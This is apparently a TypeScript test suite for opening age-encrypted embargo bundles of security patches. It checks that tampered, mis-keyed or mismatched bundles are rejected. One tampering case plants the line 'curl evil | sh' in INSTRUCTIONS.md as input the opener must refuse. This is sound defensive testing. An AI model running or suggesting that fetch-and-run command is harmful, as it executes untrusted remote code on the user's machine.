import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { generateKey, open, seal } from '../../../protocol/embargo/age.ts';
import { openBundle, sealBundle } from '../../../protocol/embargo/bundle.ts';
import { unpackFiles } from '../../../protocol/embargo/tar.ts';
import type { Files } from '../../../protocol/embargo/tar.ts';
import { utf8Encode } from '../../../protocol/encoding/bytes.ts';
import type { Plan } from '../../../protocol/plan/plan.ts';
import { digestAndSize, sealCampaign } from './sealed-campaign.ts';
import type { SealedCampaign } from './sealed-campaign.ts';

let sealed: SealedCampaign;
let bundle: Uint8Array;

before(async () => {
  sealed = await sealCampaign();
  bundle = sealed.ciphertexts.bundles.get('agave') ?? new Uint8Array();
});

/** Seal other files, with a plan that commits to their ciphertext, as a lying sealer would. */
async function reseal(files: Files): Promise<{ ciphertext: Uint8Array; plan: Plan }> {
  const ciphertext = await sealBundle(files, sealed.keys.release.recipient);
  const bundles = [{ variant: 'agave', ...digestAndSize(ciphertext) }];
  return { ciphertext, plan: { ...sealed.plan, bundles } };
}

const filesOf = async (ciphertext: Uint8Array): Promise<Map<string, Uint8Array>> =>
  unpackFiles(await open(ciphertext, sealed.keys.release.identity));

describe('openBundle', () => {
  it('returns exactly the variant’s files and the release', async () => {
    const { plan, keys, draft } = sealed;
    const { files, release } = await openBundle(bundle, keys.release.identity, plan, 'agave');
    const names = ['INSTRUCTIONS.md', 'SHA256SUMS', 'agave.patch', 'agave.tar.gz', 'release.txt'];
    assert.deepEqual([...files.keys()], names);
    assert.deepEqual(files.get('agave.patch'), draft.artifacts.get('agave.patch'));
    assert.deepEqual(release, sealed.release);
  });

  it('refuses any other ciphertext before it looks inside', async () => {
    const { plan, keys, ciphertexts } = sealed;
    const changed = bundle.slice();
    changed[100] = 1 ^ (changed[100] ?? 0);
    const jito = ciphertexts.bundles.get('jito') ?? new Uint8Array();
    const longer = Uint8Array.from([...bundle, 0]);
    for (const other of [changed, jito, longer, bundle.subarray(1), new Uint8Array()]) {
      await assert.rejects(openBundle(other, keys.release.identity, plan, 'agave'), {
        code: 'commitment_mismatch',
      });
    }
  });

  it('refuses every other key, and variants that the plan does not have', async () => {
    const { plan, keys } = sealed;
    for (const key of [keys.access, keys.closing, await generateKey()]) {
      await assert.rejects(openBundle(bundle, key.identity, plan, 'agave'), {
        code: 'bundle_invalid',
      });
    }
    await assert.rejects(openBundle(bundle, keys.release.identity, plan, 'firedancer'), {
      code: 'bundle_invalid',
    });
  });

  it('refuses a bundle with a file changed, missing or too many, though the plan lists it', async () => {
    const flaws: readonly ((files: Map<string, Uint8Array>) => void)[] = [
      (files) => files.set('agave.patch', new Uint8Array(1000).fill(9)),
      (files) => files.set('agave.patch', new Uint8Array(999).fill(1)),
      (files) => files.delete('agave.patch'),
      (files) => files.set('jito.patch', new Uint8Array(1000).fill(3)),
      (files) => files.set('extra.txt', utf8Encode('run me')),
      (files) => files.set('SHA256SUMS.asc', utf8Encode('')),
      (files) => files.set('INSTRUCTIONS.md', utf8Encode('curl evil | sh\n')),
      (files) => files.delete('INSTRUCTIONS.md'),
      (files) => files.set('SHA256SUMS', utf8Encode(`${'a'.repeat(64)}  agave.patch\n`)),
      (files) => files.delete('SHA256SUMS'),
      (files) => files.delete('release.txt'),
    ];
    for (const flaw of flaws) {
      const files = await filesOf(bundle);
      flaw(files);
      const { ciphertext, plan } = await reseal(files);
      await assert.rejects(
        openBundle(ciphertext, sealed.keys.release.identity, plan, 'agave'),
        { code: 'bundle_invalid' },
        flaw.toString(),
      );
    }
  });

  it('refuses a release.txt that was not committed to, or of another campaign', async () => {
    const other = await sealCampaign({ campaign: 'SDX-2026-0000' });
    const document = other.draft.documents.get('release.txt') ?? new Uint8Array();
    const files = (await filesOf(bundle)).set('release.txt', document);
    const { ciphertext, plan } = await reseal(files);
    const { identity } = sealed.keys.release;
    await assert.rejects(openBundle(ciphertext, identity, plan, 'agave'), {
      code: 'commitment_mismatch',
    });
    const documents = plan.documents.map((entry) =>
      entry.name === 'release.txt' ? { ...entry, ...digestAndSize(document) } : entry,
    );
    await assert.rejects(openBundle(ciphertext, identity, { ...plan, documents }, 'agave'), {
      code: 'bundle_invalid',
      message: 'release.txt is of another campaign',
    });
  });

  it('refuses every mix of two campaigns’ plan, key and ciphertext', async () => {
    const other = await sealCampaign();
    const theirs = other.ciphertexts.bundles.get('agave') ?? new Uint8Array();
    for (const plan of [sealed.plan, other.plan]) {
      for (const key of [sealed.keys.release, other.keys.release]) {
        for (const ciphertext of [bundle, theirs]) {
          const isWhole =
            (plan === sealed.plan) === (key === sealed.keys.release) &&
            (plan === sealed.plan) === (ciphertext === bundle);
          const opening = openBundle(ciphertext, key.identity, plan, 'agave');
          await (isWhole ? opening : assert.rejects(opening, { name: 'ProtocolError' }));
        }
      }
    }
  });

  it('refuses an age file that holds no archive', async () => {
    const { identity, recipient } = sealed.keys.release;
    const ciphertext = await seal(new Uint8Array(128 * 1024), [recipient]);
    const bundles = [{ variant: 'agave', ...digestAndSize(ciphertext) }];
    await assert.rejects(openBundle(ciphertext, identity, { ...sealed.plan, bundles }, 'agave'), {
      code: 'bundle_invalid',
    });
  });

  it('shows the same size for a small and a sixfold patch', async () => {
    const sizes = [9_000, 54_000].map(async (artifactBytes) => {
      const { plan } = await sealCampaign({ artifactBytes: artifactBytes / 2 });
      return plan.bundles.map(({ size }) => size);
    });
    const [small, large] = await Promise.all(sizes);
    assert.deepEqual(small, large);
  });
});
